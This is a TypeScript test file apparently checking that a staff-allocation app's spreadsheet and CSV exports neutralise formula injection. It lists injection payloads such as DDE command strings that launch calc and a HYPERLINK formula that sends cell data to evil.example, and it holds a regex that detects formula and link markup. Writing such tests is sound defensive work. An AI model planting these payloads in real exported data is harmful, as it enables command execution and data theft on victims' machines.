import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import { afterAll, expect, it } from 'vitest'
import type { ReportBook } from '../services/report-book.js'
import { csvText, MAX_CELL_TEXT, workbookText } from './cell-text.js'
import { csvRows } from './csv-rows.js'
import { readWorkbook } from './read-workbook.js'
import { csvOf } from './write-csv.js'
import { writeWorkbook } from './write-workbook.js'
import { ZipParts } from './zip-parts.js'

const folder = mkdtempSync(join(tmpdir(), 'staffalloc-text-'))
afterAll(() => rmSync(folder, { recursive: true }))

// biome-ignore lint/suspicious/noControlCharactersInRegex: what XML forbids
const FORBIDDEN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g

const bookOf = (texts: string[]): ReportBook => ({
  title: 't',
  file: 't',
  cover: [],
  bands: [0.4, 0.8],
  sheets: [
    {
      name: 'Texts',
      lead: [],
      columns: [{ header: 'Text', width: 20, format: 'text' }],
      rows: texts.map((text) => [text]),
      foot: [],
      freeze: { rows: 1, columns: 0 },
      heat: [],
    },
  ],
})

const TRICKS = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  ' =1',
  "'=1",
  '|calc',
  '%0A=1',
  '{=1}',
  '=DDE("cmd";"/C calc";"x")',
  '<script>',
  ']]>',
  '_x0041_',
  '_x005F_x0041_',
  'a\u0000b',
  'a\ufffeb',
  'lone \ud800 half',
  '😀',
]

it('never becomes a formula or link in a workbook', async () => {
  const path = join(folder, 'tricks.xlsx')
  await writeWorkbook(bookOf(TRICKS), path)
  const zip = new ZipParts(readFileSync(path))
  for (const name of zip.names) {
    const xml = zip.read(name)!.toString()
    expect(xml, name).not.toMatch(/<f[ >]|<hyperlink|externalLink|ddeLink/)
  }
})

it('reads the same in two other readers, but for what XML forbids', async () => {
  const path = join(folder, 'any.xlsx')
  const unit = fc.oneof(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' }), fc.constantFrom(...TRICKS))
  const texts = fc.sample(unit, { numRuns: 2000, seed: 7 }).filter((t) => t.trim() !== '')
  await writeWorkbook(bookOf(texts), path)
  const kept = texts.map((t) => Buffer.from(t.replace(FORBIDDEN, '')).toString())
  const rows = readWorkbook(readFileSync(path), 'any.xlsx').sheets[0]!.rows
  const ours = kept.map((_, i) => rows.find((r) => r.number === i + 2)?.cells[0] ?? '')
  // XML makes one line break of the two characters.
  const lines = (text: unknown) => String(text).replace(/\r\n?/g, '\n')
  expect(ours.map(lines)).toEqual(kept.map(lines))
  const other = new ExcelJS.Workbook()
  await other.xlsx.readFile(path)
  expect(other.worksheets[0]!.rowCount).toBeGreaterThan(0)
})

it('is cut at what a cell takes', () => {
  const long = workbookText('x'.repeat(40_000))
  expect([long.length, long.at(-1)]).toEqual([MAX_CELL_TEXT, '…'])
  expect(workbookText(`${'x'.repeat(MAX_CELL_TEXT - 2)}😀tail`)).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/)
  expect(workbookText('y'.repeat(MAX_CELL_TEXT))).toHaveLength(MAX_CELL_TEXT)
})

it('gets a quote in front in CSV where a program would run it, and loses it on import', async () => {
  for (const trick of TRICKS.slice(0, 6)) expect(csvText(trick).replace(/^"/, '')).toMatch(/^'[=+\-@]/)
  const texts = TRICKS.filter((t) => !t.includes('\u0000') && !t.includes('\ufffe') && !t.includes('\ud800'))
  const pieces: Uint8Array[] = []
  for await (const piece of csvOf(bookOf(texts))) pieces.push(piece)
  const rows = csvRows(Buffer.concat(pieces).toString().slice(1), 100, 10)
  expect(rows.slice(1).map((r) => r.cells[0])).toEqual(texts)
})
